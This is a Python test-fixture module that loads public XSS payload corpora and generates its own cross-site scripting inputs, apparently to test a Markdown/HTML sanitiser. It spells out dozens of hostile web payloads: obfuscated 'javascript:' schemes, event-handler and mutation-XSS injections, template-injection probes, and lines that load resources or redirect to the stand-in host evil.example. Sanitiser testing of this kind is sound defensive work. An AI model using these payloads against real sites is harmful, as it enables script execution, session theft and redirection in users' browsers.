"""Texts that try to run a program in the reader's browser, of others and of our own."""

# ruff: noqa: E501 - payloads are written as they are

from __future__ import annotations

import itertools
import json
from pathlib import Path

DATA = Path(__file__).parent / "data"
CORPORA = ("xss-owasp", "xss-dompurify", "xss-bleach")


def corpus(name: str) -> tuple[str, ...]:
    """A public collection; its file names the source and the licence."""
    loaded = json.loads((DATA / f"{name}.json").read_text(encoding="utf-8"))
    return tuple(loaded["payloads"])


FIRE = "window.__fired=1"
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:"),
    *(
        "java&Tab;script:",
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "java&#10;script:",
    ),
    *(
        "\u00a0javascript:",
        "javascript\u200b:",
        "vbscript:",
        "data:text/html,<script>",
        "//evil.example/",
    ),
    *(
        "data:text/html;base64,PHNjcmlwdD4=",
        "blob:",
        "filesystem:",
        "view-source:javascript:",
        "feed:javascript:",
    ),
    *("jav%61script:", "\\javascript:", "javascript://%0a", "&lt;javascript:", "ｊavascript:"),
)
_LINKS = (
    "[a]({0}{1})",
    "[a](<{0}{1}>)",
    "![a]({0}{1})",
    "<{0}{1}>",
    "[a][b]\n\n[b]: {0}{1}",
    '[a](x "{0}{1}")',
    "<a href='{0}{1}'>a</a>",
    "[![a]({0}{1})]({0}{1})",
    "[^1]\n\n[^1]: <a href='{0}{1}'>a</a>",
)
_MARKDOWN = (
    '![a](x "<script>{0}</script>")',
    "![a](x \"' onerror={0} '\")",
    '![" onerror="{0}](x)',
    "![<img src=x onerror={0}>](x)",
    "[a](x' onmouseover='{0})",
    '[a](x" onmouseover="{0})',
    "[a]: x \"' onload='{0}\"\n\n[a]",
    "[^<img src=x onerror={0}>]\n\n[^<img src=x onerror={0}>]: b",
    "# <img src=x onerror={0}>",
    "# a {{: onclick={0} }}",
    "a\n{{: style=x onclick={0} }}",
    "```<img src=x onerror={0}>\n<script>{0}</script>\n```",
    "``` {{.a onclick={0}}}\na\n```",
    "~~~~html\n</code></pre><script>{0}</script>\n~~~~",
    "`</code><script>{0}</script>`",
    "    </pre><script>{0}</script>",
    '!!! note "<img src=x onerror={0}>"\n    <script>{0}</script>',
    "!!! <img/src=x/onerror={0}>\n    a",
    "|<img src=x onerror={0}>|\n|-|\n|<script>{0}</script>|",
    "a\n:   <svg onload={0}>",
    "- [ ] <svg onload={0}>",
    "- [x](javascript:{0})",
    "> <svg onload={0}>",
    "*[<b>]: <img src=x onerror={0}>\n\n<b>",
    "<a@b.c\"onclick={0}>",
    "<http://a/\"onclick=\"{0}>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\\<script>{0}\\</script>",
    "<!--\n\n--><script>{0}</script>",
    "<!-- --!><img src=x onerror={0}>",
    "<![CDATA[><img src=x onerror={0}>]]>",
    "<?php ?><img src=x onerror={0}>",
    "<div markdown=1>\n\n<img src=x onerror={0}>\n\n</div>",
    "\x02<script>{0}</script>\x03",
    "klzzwxh:0000<script>{0}</script>",
    "\x02wzxhzdk:0\x03<img src=x onerror={0}>",
)  # fmt: skip
_MUTATIONS = (
    "<svg></p><style><a id=\"</style><img src=1 onerror={0}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={0}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<svg><style>&lt;img src=x onerror={0}&gt;</style></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    "<title><p title=\"</title><img src=x onerror={0}>\">",
    "<textarea><p title=\"</textarea><img src=x onerror={0}>\">",
    "<xmp><p title=\"</xmp><img src=x onerror={0}>\">",
    "<iframe><p title=\"</iframe><img src=x onerror={0}>\">",
    "<noembed><p title=\"</noembed><img src=x onerror={0}>\">",
    "<plaintext><img src=x onerror={0}>",
    "<template><script>{0}</script></template>",
    "<select><style><img src=x onerror={0}></style></select>",
    "<table><td title='<table onmouseover={0}>'><img src=x onerror={0}>",
    "<abbr title=\"<table><img src=x onerror={0}>\">a</abbr>",
    "<abbr title=\"<h1><img src=x onerror={0}>\">a</abbr>\n\n# a",
    "<abbr title=\"</pre><img src=x onerror={0}>\">a</abbr>",
    "<p title='<input onfocus={0} autofocus>'>a</p><input>",
    "<img alt='x><img src=x onerror={0}>' src=a.mp4>",
    "<img alt='\"><img src=x onerror={0}>' src='a.mp4'>",
    "<img src='a.mp4\" onerror=\"{0}.mp4' alt=a>",
    "<img src='a.mp3' title='<img src=x onerror={0}>'>",
    "<video src=x onerror={0}><source src=x onerror={0}></video>",
    "<details open ontoggle={0}>",
    "<marquee onstart={0}>",
    "<input autofocus onfocus={0}>",
    "<a id=location href='javascript:{0}'>", "<img name=cookie src=x onerror={0}>",
    "<style>@import'//evil.example/x.css';*{{background:url(//evil.example/)}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<object data=//evil.example/x.swf>", "<embed src=//evil.example/x>",
    "<img src=//evil.example/x srcset='//evil.example/y 1x'>",
    "<p style='background:url(//evil.example/)'>",
    "<table background=//evil.example/x>", "<q cite=javascript:{0}>",
    "</script><script>{0}</script>", "\"-{0}-\"", "';{0}//", "{{{{ ''.__class__ }}}}", "${{{0}}}",
    "--></title></style></textarea></script><svg onload={0}>", "]]><script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>", "<scr<script>ipt>{0}</script>", "<script\x0c>{0}</script>",
    "<svg/onload={0}>", "<svg\tonload={0}>", "<svg\nonload={0}>", "<svg onload\n=\n{0}>",
    "<IMG SRC=x OnErRoR={0}>", "<img src=x onerror&#61;{0}>", "＜script＞{0}＜/script＞",
    "<script>{0}", "<img src=x onerror={0}//", "<!--slot:main--><script>{0}</script>", "<!--slot:head-->",
)  # fmt: skip


def our_own() -> tuple[str, ...]:
    """Mutations: schemes, Markdown's own syntax, parsers that disagree, our slots and players."""
    made = [link.format(s, FIRE) for link, s in itertools.product(_LINKS, _SCHEMES)]
    made += [text.format(FIRE) for text in (*_MARKDOWN, *_MUTATIONS)]
    return tuple(dict.fromkeys(made))
